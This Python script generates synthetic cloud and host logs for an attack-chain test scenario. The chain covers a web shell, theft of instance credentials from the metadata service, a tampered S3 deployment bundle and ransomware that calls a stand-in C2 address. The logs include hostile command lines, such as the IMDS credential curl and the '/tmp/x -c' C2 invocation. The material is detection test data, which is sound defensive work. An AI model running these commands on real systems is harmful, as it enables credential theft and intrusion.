# Generates testdata/scenarios/attack-chain (run from anywhere: python3 generate_attack_chain.py).
# The files are committed; rerun only to change the story.
import json, datetime, uuid, hashlib
import os
OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "../../testdata/scenarios/attack-chain") + "/"
T0 = datetime.datetime(2026, 11, 20, 9, 0, 0, tzinfo=datetime.timezone.utc)
ACCT, REGION = "111122223333", "eu-west-1"
WEB_I, TGT1_I, TGT2_I = "i-0a1b2c3d4e5f60718", "i-0b2c3d4e5f6071829", "i-0c3d4e5f607182930"
ATT_IP, NAT_IP, C2_IP, CI_IP = "203.0.113.9", "198.51.100.7", "198.18.7.66", "192.0.2.50"
ASIA = "ASIA4WEBAPPROLE7QX2K"
BUCKET = "acme-release-artifacts"
BAD_KEY, CI_KEY = "webapp/release-2026-11-20.zip", "webapp/release-2026-11-20-ci.zip"
GROUP_DIR = "f3a9c2d1-7b4e-4c1a-9e2f-5d6c7b8a9e0f"
D_ATT, D_CI = "d-K7Q2X9ATK", "d-3B8CIRL01"

def ts(minutes):
    return T0 + datetime.timedelta(minutes=minutes)
def iso(minutes):
    return ts(minutes).strftime("%Y-%m-%dT%H:%M:%SZ")
def ms(minutes):
    return int(ts(minutes).timestamp() * 1000)
def uid(*parts):
    return str(uuid.UUID(hashlib.sha256("|".join(map(str, parts)).encode()).hexdigest()[:32]))

# ---------------------------------------------------------------- CloudTrail
def web_identity():
    return {"type": "AssumedRole", "principalId": "AROA4WEBAPPROLE000001:" + WEB_I,
            "arn": f"arn:aws:sts::{ACCT}:assumed-role/web-app-role/{WEB_I}", "accountId": ACCT, "accessKeyId": ASIA,
            "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": "AROA4WEBAPPROLE000001",
                "arn": f"arn:aws:iam::{ACCT}:role/web-app-role", "accountId": ACCT, "userName": "web-app-role"},
                "attributes": {"creationDate": iso(-40), "mfaAuthenticated": "false"}, "ec2RoleDelivery": "2.0"}}
def user_identity(name, key):
    return {"type": "IAMUser", "principalId": "AIDA" + hashlib.sha1(name.encode()).hexdigest()[:16].upper(),
            "arn": f"arn:aws:iam::{ACCT}:user/{name}", "accountId": ACCT, "accessKeyId": key, "userName": name}
def role_identity(role, session, key, invoked_by=None):
    d = {"type": "AssumedRole", "principalId": "AROA" + hashlib.sha1(role.encode()).hexdigest()[:16].upper() + ":" + session,
         "arn": f"arn:aws:sts::{ACCT}:assumed-role/{role}/{session}", "accountId": ACCT, "accessKeyId": key,
         "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": "AROA" + hashlib.sha1(role.encode()).hexdigest()[:16].upper(),
             "arn": f"arn:aws:iam::{ACCT}:role/{role}", "accountId": ACCT, "userName": role},
             "attributes": {"creationDate": iso(-300), "mfaAuthenticated": "false"}}}
    if invoked_by:
        d["invokedBy"] = invoked_by
    return d

def ct(minutes, name, source, ident, ip, ua, req, resp=None, resources=None, data=False, readonly=False, tag=""):
    r = {"eventVersion": "1.09", "userIdentity": ident, "eventTime": iso(minutes), "eventSource": source,
         "eventName": name, "awsRegion": REGION, "sourceIPAddress": ip, "userAgent": ua,
         "requestParameters": req, "responseElements": resp,
         "requestID": uid("req", minutes, name, tag)[:16].upper().replace("-", ""), "eventID": uid("ct", minutes, name, tag),
         "readOnly": readonly, "eventType": "AwsApiCall", "managementEvent": not data,
         "recipientAccountId": ACCT, "eventCategory": "Data" if data else "Management"}
    if resources:
        r["resources"] = resources
    return r

def s3res(bucket, key=None):
    out = []
    if key:
        out.append({"type": "AWS::S3::Object", "ARN": f"arn:aws:s3:::{bucket}/{key}"})
    out.append({"accountId": ACCT, "type": "AWS::S3::Bucket", "ARN": f"arn:aws:s3:::{bucket}"})
    return out

CLI = "[aws-cli/2.15.30 Python/3.11.8 Linux/6.1.0 exe/x86_64.kali.2024 prompt/off command/s3.cp]"
recs = []
# Legitimate CI deployment, five hours before the attack.
ci = -300
recs.append(ct(ci, "PutObject", "s3.amazonaws.com", user_identity("ci-deployer", "AKIA4CIDEPLOYER00001"), CI_IP,
               "[aws-cli/2.15.30 md/command#s3.cp]", {"bucketName": BUCKET, "key": CI_KEY, "Host": f"{BUCKET}.s3.{REGION}.amazonaws.com"},
               {"x-amz-server-side-encryption": "AES256"}, s3res(BUCKET, CI_KEY), data=True, tag="ci"))
recs.append(ct(ci + 1, "StartPipelineExecution", "codepipeline.amazonaws.com",
               role_identity("events-start-pipeline", "a41c9e07", "ASIA4EVENTSPIPE00001", "events.amazonaws.com"),
               "events.amazonaws.com", "events.amazonaws.com", {"name": "webapp-release"},
               {"pipelineExecutionId": uid("pe-ci")}, tag="ci"))
recs.append(ct(ci + 2, "CreateDeployment", "codedeploy.amazonaws.com",
               role_identity("codepipeline-service-role", "1763611320123", "ASIA4CODEPIPELINE001", "codepipeline.amazonaws.com"),
               "codepipeline.amazonaws.com", "codepipeline.amazonaws.com",
               {"applicationName": "webapp", "deploymentGroupName": "webapp-prod",
                "revision": {"revisionType": "S3", "s3Location": {"bucket": BUCKET, "key": CI_KEY, "bundleType": "zip", "eTag": "8b1d0c"}},
                "deploymentConfigName": "CodeDeployDefault.OneAtATime", "description": "Deployed by CodePipeline webapp-release"},
               {"deploymentId": D_CI}, tag="ci"))
# 4-5: the stolen instance credentials used from the attacker's machine.
att = web_identity()
recs.append(ct(31, "GetCallerIdentity", "sts.amazonaws.com", att, ATT_IP, CLI, None, None, tag="a"))
recs.append(ct(32, "ListBuckets", "s3.amazonaws.com", att, ATT_IP, CLI, {"Host": f"s3.{REGION}.amazonaws.com"}, None, readonly=True, tag="a"))
recs.append(ct(33, "ListObjects", "s3.amazonaws.com", att, ATT_IP, CLI, {"bucketName": BUCKET, "prefix": "", "Host": f"{BUCKET}.s3.{REGION}.amazonaws.com"}, None, s3res(BUCKET), data=True, readonly=True, tag="a"))
recs.append(ct(35, "GetObject", "s3.amazonaws.com", att, ATT_IP, CLI, {"bucketName": BUCKET, "key": "webapp/appspec.yml", "Host": f"{BUCKET}.s3.{REGION}.amazonaws.com"}, None, s3res(BUCKET, "webapp/appspec.yml"), data=True, readonly=True, tag="a"))
recs.append(ct(36, "GetObject", "s3.amazonaws.com", att, ATT_IP, CLI, {"bucketName": BUCKET, "key": CI_KEY, "Host": f"{BUCKET}.s3.{REGION}.amazonaws.com"}, None, s3res(BUCKET, CI_KEY), data=True, readonly=True, tag="a"))
# 6 tampering, 7 malware placement.
recs.append(ct(45, "PutObject", "s3.amazonaws.com", att, ATT_IP, CLI, {"bucketName": BUCKET, "key": "webapp/appspec.yml", "Host": f"{BUCKET}.s3.{REGION}.amazonaws.com"}, {"x-amz-server-side-encryption": "AES256"}, s3res(BUCKET, "webapp/appspec.yml"), data=True, tag="a"))
recs.append(ct(50, "PutObject", "s3.amazonaws.com", att, ATT_IP, CLI, {"bucketName": BUCKET, "key": BAD_KEY, "Host": f"{BUCKET}.s3.{REGION}.amazonaws.com"}, {"x-amz-server-side-encryption": "AES256"}, s3res(BUCKET, BAD_KEY), data=True, tag="a"))
# 8 distribution: the upload triggers the pipeline, which deploys the bundle.
recs.append(ct(51, "StartPipelineExecution", "codepipeline.amazonaws.com",
               role_identity("events-start-pipeline", "c7d20f55", "ASIA4EVENTSPIPE00002", "events.amazonaws.com"),
               "events.amazonaws.com", "events.amazonaws.com", {"name": "webapp-release"}, {"pipelineExecutionId": uid("pe-att")}, tag="a"))
recs.append(ct(53, "CreateDeployment", "codedeploy.amazonaws.com",
               role_identity("codepipeline-service-role", "1763629980456", "ASIA4CODEPIPELINE002", "codepipeline.amazonaws.com"),
               "codepipeline.amazonaws.com", "codepipeline.amazonaws.com",
               {"applicationName": "webapp", "deploymentGroupName": "webapp-prod",
                "revision": {"revisionType": "S3", "s3Location": {"bucket": BUCKET, "key": BAD_KEY, "bundleType": "zip", "eTag": "e41f77"}},
                "deploymentConfigName": "CodeDeployDefault.AllAtOnce", "description": "Deployed by CodePipeline webapp-release"},
               {"deploymentId": D_ATT}, tag="a"))
# Noise: other people behind the office NAT address read the same bucket.
for i, who in enumerate(["alice", "bob", "carol", "dave"]):
    ident = user_identity(who, "AKIA4NOISE%010d" % i)
    recs.append(ct(20 + 7 * i, "ListBuckets", "s3.amazonaws.com", ident, NAT_IP, "aws-cli/2.15.30", {"Host": f"s3.{REGION}.amazonaws.com"}, None, readonly=True, tag=who))
    recs.append(ct(21 + 7 * i, "GetObject", "s3.amazonaws.com", ident, NAT_IP, "aws-cli/2.15.30", {"bucketName": BUCKET, "key": "webapp/appspec.yml"}, None, s3res(BUCKET, "webapp/appspec.yml"), data=True, readonly=True, tag=who))
recs.append(ct(41, "ListBuckets", "s3.amazonaws.com", role_identity("analytics-readonly", "carol@acme.example", "ASIA4ANALYTICS000001"), NAT_IP, "aws-cli/2.15.30", {"Host": f"s3.{REGION}.amazonaws.com"}, None, readonly=True, tag="carol-role"))
recs.append(ct(40, "DescribeInstances", "ec2.amazonaws.com", user_identity("ops-erin", "AKIA4OPSERIN00000001"), NAT_IP, "console.amazonaws.com", {"instancesSet": {}}, None, readonly=True, tag="erin"))
recs.sort(key=lambda r: r["eventTime"])
with open(OUT + "cloudtrail.json", "w") as f:
    json.dump({"Records": recs}, f, indent=1)
    f.write("\n")

# ---------------------------------------------------------------- GuardDuty
finding = {
    "schemaVersion": "2.0", "accountId": ACCT, "region": REGION, "partition": "aws",
    "id": "8ec9f3a1b2c4d5e6f708192a3b4c5d6e",
    "arn": f"arn:aws:guardduty:{REGION}:{ACCT}:detector/12abc34d567e8fa901bc2d34e56789f0/finding/8ec9f3a1b2c4d5e6f708192a3b4c5d6e",
    "type": "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS",
    "resource": {"resourceType": "AccessKey",
        "accessKeyDetails": {"accessKeyId": ASIA, "principalId": "AROA4WEBAPPROLE000001:" + WEB_I, "userName": "web-app-role", "userType": "AssumedRole"},
        "instanceDetails": {"instanceId": WEB_I, "instanceType": "t3.medium", "availabilityZone": REGION + "a",
            "iamInstanceProfile": {"arn": f"arn:aws:iam::{ACCT}:instance-profile/web-app-role", "id": "AIPA4WEBAPPROLE00001"},
            "networkInterfaces": [{"privateIpAddress": "10.0.1.10", "privateDnsName": "ip-10-0-1-10.eu-west-1.compute.internal",
                                    "publicIp": "34.251.10.20", "subnetId": "subnet-0a1b2c3d", "vpcId": "vpc-0a1b2c3d"}]}},
    "service": {"serviceName": "guardduty", "detectorId": "12abc34d567e8fa901bc2d34e56789f0",
        "action": {"actionType": "AWS_API_CALL", "awsApiCallAction": {"api": "ListBuckets", "serviceName": "s3.amazonaws.com", "callerType": "Remote IP",
            "remoteIpDetails": {"ipAddressV4": ATT_IP, "organization": {"asn": "64500", "asnOrg": "Example Hosting", "isp": "Example Hosting"},
                                "country": {"countryName": "Netherlands"}, "city": {"cityName": "Amsterdam"}}}},
        "eventFirstSeen": iso(31), "eventLastSeen": iso(33), "archived": False, "count": 3},
    "severity": 8, "createdAt": iso(34), "updatedAt": iso(34),
    "title": f"Credentials for instance role web-app-role used from external IP address.",
    "description": f"Credentials created exclusively for an EC2 instance using instance role web-app-role have been used from external IP address {ATT_IP}.",
}
envelope = {"version": "0", "id": uid("eb", finding["id"]), "detail-type": "GuardDuty Finding", "source": "aws.guardduty",
            "account": ACCT, "time": iso(34), "region": REGION, "resources": [], "detail": finding}
with open(OUT + "guardduty.json", "w") as f:
    json.dump(envelope, f, indent=1)
    f.write("\n")

# ---------------------------------------------------------------- VPC flow logs (v2)
# version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status
def flow(eni, src, dst, sp, dp, pk, by, m, action="ACCEPT"):
    s = int(ts(m).timestamp())
    return f"2 {ACCT} {eni} {src} {dst} {sp} {dp} 6 {pk} {by} {s} {s + 60} {action} OK"
lines = ["version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status"]
lines += [
    flow("eni-0web0000000000001", "10.0.0.5", "10.0.1.10", 41822, 443, 40, 9120, -1),
    flow("eni-0web0000000000001", ATT_IP, "10.0.1.10", 51515, 443, 18, 6800, 0),
    flow("eni-0web0000000000001", "10.0.1.10", ATT_IP, 443, 51515, 16, 22410, 0),
    flow("eni-0web0000000000001", ATT_IP, "10.0.1.10", 51533, 443, 9, 2210, 4),
    flow("eni-0app1000000000001", "10.0.2.21", "10.0.0.5", 33410, 443, 12, 1800, -296),
    flow("eni-0app1000000000001", "10.0.2.21", C2_IP, 40112, 8443, 24, 3120, 57),
    flow("eni-0app2000000000002", "10.0.2.22", C2_IP, 40233, 8443, 22, 2988, 57),
    flow("eni-0app1000000000001", C2_IP, "10.0.2.21", 8443, 40112, 20, 40211, 57),
    flow("eni-0nat0000000000001", "10.0.3.15", "52.95.150.10", 38812, 443, 30, 5400, 20),
    flow("eni-0web0000000000001", "198.51.100.200", "10.0.1.10", 60001, 22, 1, 60, 12, "REJECT"),
]
with open(OUT + "vpcflow.log", "w") as f:
    f.write("\n".join(lines) + "\n")

# ---------------------------------------------------------------- agent (OCSF JSON lines)
agent = []
def dev(n):
    d = {"web-1": (WEB_I, "10.0.1.10"), "app-1": (TGT1_I, "10.0.2.21"), "app-2": (TGT2_I, "10.0.2.22")}[n]
    return {"hostname": n, "uid": d[0], "instance_uid": d[0], "ip": d[1], "region": REGION, "type": "Server", "type_id": 1, "os": {"name": "Debian 12", "type": "Linux"}}
def ag(m, cls, act, host, extra, sev=1, tag=""):
    e = {"class_uid": cls, "activity_id": act, "time": ms(m), "severity_id": sev,
         "metadata": {"uid": uid("ag", host, m, cls, act, tag), "product": {"name": "musubi-sensor", "vendor_name": "Musubi"}, "version": "1.1.0"},
         "cloud": {"provider": "AWS", "region": REGION, "account": {"uid": ACCT}}, "device": dev(host)}
    e.update(extra)
    # OCSF places processes per class: in Process Activity (1007) `process` is
    # the launched process and `actor.process` its parent; in File System and
    # Network Activity the acting process is `actor.process`.
    if cls == 1007:
        parent = e["process"].get("parent_process")
        if parent:
            e["actor"] = {"process": dict(parent)}
    elif "process" in e:
        e["actor"] = {"process": e.pop("process")}
    agent.append(e)
PHP = "/usr/sbin/php-fpm8.2"
web_lin = ["/usr/lib/systemd/systemd", PHP, "/bin/sh"]
# 1 initial access: php-fpm spawns sh, writes a web shell.
ag(1, 1007, 1, "web-1", {"process": {"pid": 24811, "name": "sh", "cmd_line": "sh -c id;uname -a", "file": {"path": "/bin/sh", "name": "sh"},
    "user": {"name": "www-data"}, "parent_process": {"pid": 1377, "name": "php-fpm8.2", "file": {"path": PHP}}, "lineage": ["/usr/lib/systemd/systemd", PHP]}}, tag="sh")
ag(1.5, 1001, 1, "web-1", {"file": {"path": "/var/www/html/uploads/.cache.php", "name": ".cache.php", "size": 1436},
    "process": {"pid": 1377, "name": "php-fpm8.2", "file": {"path": PHP}, "user": {"name": "www-data"}}}, tag="shell")
# 2 discovery: region and role from IMDS.
ag(4, 1007, 1, "web-1", {"process": {"pid": 24870, "name": "curl", "cmd_line": "curl -s http://169.254.169.254/latest/meta-data/placement/region",
    "file": {"path": "/usr/bin/curl"}, "user": {"name": "www-data"}, "parent_process": {"pid": 24866, "name": "sh", "file": {"path": "/bin/sh"}}, "lineage": web_lin}}, tag="region")
ag(4.5, 1007, 1, "web-1", {"process": {"pid": 24871, "name": "curl", "cmd_line": "curl -s http://169.254.169.254/latest/meta-data/iam/info",
    "file": {"path": "/usr/bin/curl"}, "user": {"name": "www-data"}, "parent_process": {"pid": 24866, "name": "sh", "file": {"path": "/bin/sh"}}, "lineage": web_lin}}, tag="info")
# 3 credential access.
ag(5, 1007, 1, "web-1", {"process": {"pid": 24880, "name": "curl", "cmd_line": "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web-app-role",
    "file": {"path": "/usr/bin/curl"}, "user": {"name": "www-data"}, "parent_process": {"pid": 24866, "name": "sh", "file": {"path": "/bin/sh"}}, "lineage": web_lin}}, tag="creds")
ag(5, 4001, 1, "web-1", {"src_endpoint": {"ip": "10.0.1.10", "port": 48122}, "dst_endpoint": {"ip": "169.254.169.254", "port": 80},
    "connection_info": {"direction_id": 2, "protocol_num": 6}, "process": {"pid": 24880, "name": "curl", "file": {"path": "/usr/bin/curl"}, "lineage": web_lin}}, tag="imds-conn")
# Benign host activity on the web server.
ag(20, 1007, 1, "web-1", {"process": {"pid": 30011, "name": "logrotate", "cmd_line": "/usr/sbin/logrotate /etc/logrotate.conf", "file": {"path": "/usr/sbin/logrotate"}, "user": {"name": "root"}, "parent_process": {"pid": 1, "name": "systemd"}}}, tag="logrotate")

def deploy_root(dep):
    return f"/opt/codedeploy-agent/deployment-root/{GROUP_DIR}/{dep}/deployment-archive/scripts"
AGENT_BIN = "/opt/codedeploy-agent/bin/codedeploy-agent"
for host in ["app-1", "app-2"]:
    # Legitimate CI deployment: the normal hook installs into /srv/app.
    base = -296 if host == "app-1" else -295
    hook = deploy_root(D_CI) + "/install.sh"
    ag(base, 1007, 1, host, {"process": {"pid": 5100, "name": "bash", "cmd_line": "bash " + hook, "file": {"path": "/usr/bin/bash"}, "user": {"name": "root"},
        "cwd": f"/opt/codedeploy-agent/deployment-root/{GROUP_DIR}/{D_CI}/deployment-archive",
        "parent_process": {"pid": 880, "name": "ruby", "file": {"path": "/usr/bin/ruby"}, "cmd_line": "codedeploy-agent: InstanceAgent::Plugins::CodeDeployPlugin::CommandPoller of master 871"},
        "lineage": ["/usr/lib/systemd/systemd", AGENT_BIN]}}, tag="ci-hook")
    ag(base + 0.2, 1001, 1, host, {"file": {"path": "/srv/app/releases/2026-11-20-ci/app.jar", "name": "app.jar", "size": 48211456},
        "process": {"pid": 5100, "name": "bash", "cmd_line": "bash " + hook, "lineage": ["/usr/lib/systemd/systemd", AGENT_BIN]}}, tag="ci-jar")
    # 9 impact: the tampered hook drops /tmp/x and runs it.
    off = 0 if host == "app-1" else 0.25
    hook = deploy_root(D_ATT) + "/install.sh"
    lin = ["/usr/lib/systemd/systemd", AGENT_BIN, "/usr/bin/bash " + hook]
    ag(56 + off, 1001, 1, host, {"file": {"path": "/tmp/x", "name": "x", "size": 2284120},
        "process": {"pid": 6200, "name": "bash", "cmd_line": "bash " + hook, "file": {"path": "/usr/bin/bash"}, "user": {"name": "root"},
                    "lineage": ["/usr/lib/systemd/systemd", AGENT_BIN]}}, tag="drop")
    ag(56.2 + off, 1007, 1, host, {"process": {"pid": 6210, "name": "x", "cmd_line": "/tmp/x -c " + C2_IP + ":8443", "file": {"path": "/tmp/x", "name": "x",
        "hashes": [{"algorithm": "SHA-256", "algorithm_id": 3, "value": "9f2c1b7e4d8a6f3c0b5e2d9a7c4f1e8b3d6a0c9f2e5b8d1a4c7f0e3b6d9a2c5f"}]},
        "user": {"name": "root"}, "cwd": "/tmp", "parent_process": {"pid": 6200, "name": "bash", "cmd_line": "bash " + hook, "file": {"path": "/usr/bin/bash"}},
        "lineage": lin}}, tag="exec")
    ag(57 + off, 4001, 1, host, {"src_endpoint": {"ip": dev(host)["ip"], "port": 40112}, "dst_endpoint": {"ip": C2_IP, "port": 8443},
        "connection_info": {"direction_id": 2, "protocol_num": 6},
        "process": {"pid": 6210, "name": "x", "file": {"path": "/tmp/x"}, "lineage": lin}}, tag="c2")
    for i, fn in enumerate(["orders.db", "invoices-2026.csv", "customers.json", "app.env", "backup.tar"]):
        ag(60 + off + i * 0.05, 1001, 5, host, {"file": {"path": "/srv/data/" + fn, "name": fn},
            "file_result": {"path": "/srv/data/" + fn + ".locked", "name": fn + ".locked"},
            "process": {"pid": 6210, "name": "x", "file": {"path": "/tmp/x"}, "user": {"name": "root"}, "lineage": lin}}, tag="lock" + fn)
    ag(60.5 + off, 1001, 1, host, {"file": {"path": "/srv/data/README_FOR_DECRYPT.txt", "name": "README_FOR_DECRYPT.txt", "size": 1880},
        "process": {"pid": 6210, "name": "x", "file": {"path": "/tmp/x"}, "user": {"name": "root"}, "lineage": lin}}, tag="note")
    # Benign: the application itself.
    ag(30 + off, 1007, 1, host, {"process": {"pid": 7001, "name": "java", "cmd_line": "java -jar /srv/app/current/app.jar", "file": {"path": "/usr/bin/java"}, "user": {"name": "app"}, "parent_process": {"pid": 1, "name": "systemd"}}}, tag="java")
agent.sort(key=lambda e: e["time"])
with open(OUT + "agent.jsonl", "w") as f:
    for e in agent:
        f.write(json.dumps(e, separators=(",", ":")) + "\n")

# ---------------------------------------------------------------- Falco
falco = []
for host in ["app-1", "app-2"]:
    off = 0 if host == "app-1" else 15
    t = ts(60) + datetime.timedelta(seconds=20 + off)
    falco.append({"uuid": uid("falco", host), "output": f"File renamed to a ransomware extension (proc=x file=/srv/data/orders.db.locked host={host})",
        "priority": "Critical", "rule": "Mass rename to encrypted extension", "time": t.strftime("%Y-%m-%dT%H:%M:%S.%f000Z"),
        "output_fields": {"proc.name": "x", "proc.pid": 6210, "proc.exepath": "/tmp/x", "proc.cmdline": "x -c " + C2_IP + ":8443",
            "proc.pname": "bash", "fd.name": "/srv/data/orders.db.locked", "user.name": "root", "evt.type": "renameat2", "container.id": "host"},
        "hostname": host, "source": "syscall", "tags": ["host", "mitre_impact", "T1486"]})
with open(OUT + "falco.json", "w") as f:
    for e in falco:
        f.write(json.dumps(e) + "\n")
print("ok", len(recs), len(agent), len(falco))
